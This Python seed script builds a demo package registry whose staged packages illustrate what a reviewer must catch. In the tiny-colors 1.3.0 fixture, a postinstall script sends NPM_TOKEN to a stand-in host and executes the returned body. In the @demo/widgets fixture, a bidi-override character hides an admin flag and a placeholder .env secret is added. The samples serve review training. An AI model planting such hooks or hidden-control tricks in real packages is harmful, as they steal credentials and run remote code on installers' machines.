"""`python -m devregistry seed`: a demo registry with what a reviewer must catch.

Everything is built here (tarballs with tarfile + gzip), nothing is downloaded. The credentials
are printed and written to DIR/seed.json for the portal's `make run`.
"""

from __future__ import annotations

import json
import secrets
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from devregistry import accounts, otp, packages, stages, tarballs
from devregistry.accounts import Principal
from devregistry.models import State
from devregistry.packages import Upload
from devregistry.store import Store, write_atomic

Files = dict[str, bytes | str]

# name, email, TOTP 2FA?  `portal-sync` owns every demo package and gets the read-only token
# the portal's sync uses; `ci-bot` stages with an automation token ("trusted automation").
USERS = [
    ("alice", "alice@example.com", True),
    ("bob", "bob@example.com", False),
    ("carol", "carol@example.com", True),
    ("ci-bot", "ci-bot@example.com", False),
    ("portal-sync", "portal-sync@example.com", False),
]


@dataclass
class SeedResult:
    users: list[dict[str, Any]] = field(default_factory=list)
    sync_token: str = ""
    automation_token: str = ""
    stages: list[dict[str, str]] = field(default_factory=list)
    extra_stages: int = 0  # `--stages N`: pending bulk stages besides the demo's

    def to_json(self) -> dict[str, Any]:
        return {
            "users": self.users,
            "sync_token": self.sync_token,
            "automation_token": self.automation_token,
            "stages": self.stages,
            "extra_stages": self.extra_stages,
        }

    def describe(self) -> str:
        lines = ["Seeded the dev registry. Demo credentials (also in seed.json):", ""]
        for user in self.users:
            lines.append(f"  {user['name']:<12} password {user['password']}")
            lines.append(f"  {'':<12} token    {user['token']}")
            if user["otp_secret"]:
                lines.append(f"  {'':<12} TOTP secret {user['otp_secret']} (SHA-1, 6 digits, 30 s)")
        lines += [
            "",
            f"  read-only sync token (portal-sync): {self.sync_token}",
            f"  automation token (ci-bot):          {self.automation_token}",
            "",
            "Pending stages:",
        ]
        lines += [
            f"  {s['id']}  {s['package']}@{s['version']} -> {s['tag']}: {s['shows']}"
            for s in self.stages
        ]
        if self.extra_stages:
            lines.append(f"  and {self.extra_stages} bulk stages of bulk-* packages (--stages)")
        return "\n".join(lines)


# `seed --stages N`: the extra stages are spread over packages of this many versions each.
BULK_VERSIONS_PER_PACKAGE = 100


def seed(data_dir: Path, *, wipe: bool = False, extra_stages: int = 0) -> SeedResult:
    store = Store(data_dir)
    result = SeedResult()
    with store.write() as state:
        if wipe:
            _wipe(state, store)
        people = _add_users(state, result)
        _publish_demo(state, store, people, result)
        _stage_many(state, store, people["ci-bot"], extra_stages)
    result.extra_stages = extra_stages
    write_atomic(data_dir / "seed.json", (json.dumps(result.to_json(), indent=2) + "\n").encode())
    return result


def _stage_many(state: State, store: Store, bot: Principal, count: int) -> None:
    """`count` more pending stages for benchmarks: `bulk-<n>` packages, each with up to
    BULK_VERSIONS_PER_PACKAGE staged versions `1.0.<i>`, staged by ci-bot and listed by the
    portal's sync token."""
    for number in range(count):
        name = f"bulk-{number // BULK_VERSIONS_PER_PACKAGE}"
        version = f"1.0.{number % BULK_VERSIONS_PER_PACKAGE}"
        stages.create(
            state, store, bot, _upload(name, version, _simple(name, version, "bulk"), "latest")
        )
        if number % BULK_VERSIONS_PER_PACKAGE == 0:
            for user in ("alice", "carol", "portal-sync"):
                packages.add_maintainer(state, name, user)


def _wipe(state: State, store: Store) -> None:
    for records in (state.users, state.tokens, state.packages, state.stages, state.web_challenges):
        records.clear()
    state.next_seq = 1
    for folder in ("tarballs", "staged"):
        shutil.rmtree(store.data_dir / folder, ignore_errors=True)


def _add_users(state: State, result: SeedResult) -> dict[str, Principal]:
    people: dict[str, Principal] = {}
    for name, email, two_factor in USERS:
        password = f"{name}-{secrets.token_urlsafe(6)}"
        secret = otp.new_secret() if two_factor else None
        user = accounts.add_user(state, name, password, email, secret)
        token = accounts.create_token(state, name)
        people[name] = Principal(user, read_only=False, automation=False)
        result.users.append(
            {
                "name": name,
                "password": password,
                "email": email,
                "otp_secret": secret,
                "token": token,
            }
        )
    result.sync_token = accounts.create_token(state, "portal-sync", read_only=True)
    result.automation_token = accounts.create_token(state, "ci-bot", automation=True)
    people["ci-bot"] = Principal(state.users["ci-bot"], read_only=False, automation=True)
    return people


def _publish_demo(
    state: State, store: Store, people: dict[str, Principal], result: SeedResult
) -> None:
    alice, bob, carol, bot = people["alice"], people["bob"], people["carol"], people["ci-bot"]

    def release(who: Principal, name: str, version: str, files: Files, tag: str = "latest") -> None:
        upload = _upload(name, version, files, tag)
        manifest = packages.stored_manifest(upload, who)
        packages.add_version(state, store, name, manifest, upload.tarball, tag, who.user.name)

    def stage(who: Principal, name: str, version: str, files: Files, tag: str, shows: str) -> None:
        item = stages.create(state, store, who, _upload(name, version, files, tag))
        result.stages.append(
            {"id": item.id, "package": name, "version": version, "tag": tag, "shows": shows}
        )

    def owners(name: str, *names: str) -> None:
        # The demo team's approvers (alice, carol) maintain every demo package, so the demo
        # shows an approval by someone other than the stager; bob, a reviewer, only some.
        for user in dict.fromkeys((*names, "alice", "carol", "portal-sync", "ci-bot")):
            packages.add_maintainer(state, name, user)

    # 1. Several releases, then a stage adding an install script and a dependency.
    for version in ("1.0.0", "1.1.0", "1.2.0"):
        release(alice, "tiny-colors", version, _tiny_colors(version))
    owners("tiny-colors", "bob")
    stage(
        bot,
        "tiny-colors",
        "1.3.0",
        _tiny_colors("1.3.0", postinstall=True),
        "latest",
        "adds a postinstall script that downloads and runs code, and a new dependency "
        "(in the portal's demo, bob has already requested changes on it)",
    )

    # 2. A stage that adds a minified bundle and a native binary and moves files around.
    for version in ("2.0.0", "2.1.0"):
        release(alice, "fmt-kit", version, _fmt_kit(version, restructured=False))
    owners("fmt-kit")
    stage(
        alice,
        "fmt-kit",
        "2.2.0",
        _fmt_kit("2.2.0", restructured=True),
        "latest",
        "adds a minified bundle and a binary .node file; renames lib/ to src/",
    )

    # 3. A first release: staging a new name published only the 0.0.0-stage placeholder.
    stage(
        alice,
        "brand-new-thing",
        "1.0.0",
        _simple("brand-new-thing", "1.0.0", "first release"),
        "latest",
        "a first release: no baseline, everything is added",
    )
    owners("brand-new-thing")

    # 4. A prerelease staged on `next`.
    for version in ("3.0.0", "3.0.1"):
        release(alice, "query-lens", version, _simple("query-lens", version, "stable"))
    owners("query-lens")
    stage(
        alice,
        "query-lens",
        "3.1.0-rc.1",
        _simple("query-lens", "3.1.0-rc.1", "release candidate"),
        "next",
        "a prerelease on the next tag",
    )

    # 5. An old line's fix staged on latest: approving it would move latest back from 2.0.0.
    for version in ("1.4.0", "2.0.0"):
        release(carol, "date-tools", version, _simple("date-tools", version, "dates"))
    owners("date-tools", "alice")
    stage(
        carol,
        "date-tools",
        "1.4.1",
        _simple("date-tools", "1.4.1", "backported fix"),
        "latest",
        "tagged latest while latest is 2.0.0: approving would downgrade latest",
    )

    # 6. A scoped package, whose stage hides a bidi control character and adds a .env file.
    for version in ("0.9.0", "1.0.0"):
        release(bob, "@demo/widgets", version, _widgets(version, sneaky=False))
    owners("@demo/widgets", "alice")
    stage(
        bob,
        "@demo/widgets",
        "1.1.0",
        _widgets("1.1.0", sneaky=True),
        "latest",
        "a scoped package; adds a .env file and a bidi control character in code",
    )


def _upload(name: str, version: str, files: Files, tag: str) -> Upload:
    manifest = json.loads(files["package.json"])
    tarball = tarballs.build_tarball(name, version, files)
    return Upload(name, version, tag, "public", manifest, tarball)


def _manifest(name: str, version: str, **extra: Any) -> str:
    doc = {"name": name, "version": version, "license": "MIT", "main": "index.js", **extra}
    return json.dumps(doc, indent=2) + "\n"


def _simple(name: str, version: str, note: str) -> Files:
    return {
        "package.json": _manifest(name, version, description=f"{name}: {note}"),
        "index.js": f"// {name} {version}: {note}\nmodule.exports = () => {json.dumps(version)}\n",
        "README.md": f"# {name}\n\n{note}\n",
    }


def _tiny_colors(version: str, *, postinstall: bool = False) -> Files:
    extra: dict[str, Any] = {"description": "Tiny terminal colours"}
    files: Files = {
        "index.js": (
            "const codes = { red: 31, green: 32, yellow: 33, blue: 34 }\n"
            "const paint = (name) => (text) => `\\u001b[${codes[name]}m${text}\\u001b[0m`\n"
            "module.exports = Object.fromEntries(Object.keys(codes).map((n) => [n, paint(n)]))\n"
            f"module.exports.version = {json.dumps(version)}\n"
        ),
        "README.md": "# tiny-colors\n\nColour your terminal output.\n",
    }
    if postinstall:
        extra["scripts"] = {"postinstall": "node scripts/setup.js"}
        extra["dependencies"] = {"node-fetch-lite": "^2.0.0"}
        files["scripts/setup.js"] = (
            "const { execSync } = require('child_process')\n"
            "const https = require('https')\n"
            "const token = process.env.NPM_TOKEN || ''\n"
            "https.get('https://telemetry.example/collect?t=' + token, (res) => {\n"
            "  let body = ''\n"
            "  res.on('data', (c) => { body += c })\n"
            "  res.on('end', () => execSync(body))\n"
            "})\n"
        )
    files["package.json"] = _manifest("tiny-colors", version, **extra)
    return files


def _fmt_kit(version: str, *, restructured: bool) -> Files:
    util = "exports.pad = (s, n) => String(s).padStart(n)\n"
    fmt = "const { pad } = require('./util')\nexports.format = (n) => pad(n.toFixed(2), 10)\n"
    if not restructured:
        return {
            "package.json": _manifest("fmt-kit", version, main="lib/format.js"),
            "lib/format.js": fmt,
            "lib/util.js": util,
            "README.md": "# fmt-kit\n\nNumber formatting.\n",
        }
    bundle = "!function(e){" + ";".join(f"var a{i}=e.x{i}||{i}" for i in range(800)) + "}(this);\n"
    return {
        "package.json": _manifest(
            "fmt-kit", version, main="dist/fmt.min.js", files=["dist", "src"]
        ),
        "src/format.js": fmt,  # renamed from lib/format.js, unchanged
        "src/util.js": util + "exports.trim = (s) => String(s).trim()\n",  # renamed and changed
        "dist/fmt.min.js": bundle,
        "native/fmt.node": b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8,
        "README.md": "# fmt-kit\n\nNumber formatting, now bundled.\n",
    }


def _widgets(version: str, *, sneaky: bool) -> Files:
    files: Files = {
        "package.json": _manifest("@demo/widgets", version, description="Demo widgets"),
        "index.js": "exports.button = (label) => `<button>${label}</button>`\n",
        "README.md": "# @demo/widgets\n",
    }
    if sneaky:
        files["index.js"] = (
            "exports.button = (label) => `<button>${label}</button>`\n"
            "const isAdmin = false\n"
            "if (isAdmin) { /* \u202e } \u2066 if (true) { \u2069 */ exports.admin = true }\n"
        )
        files[".env"] = "SECRET_KEY=demo-secret-not-real-0000000000000000\n"
    return files
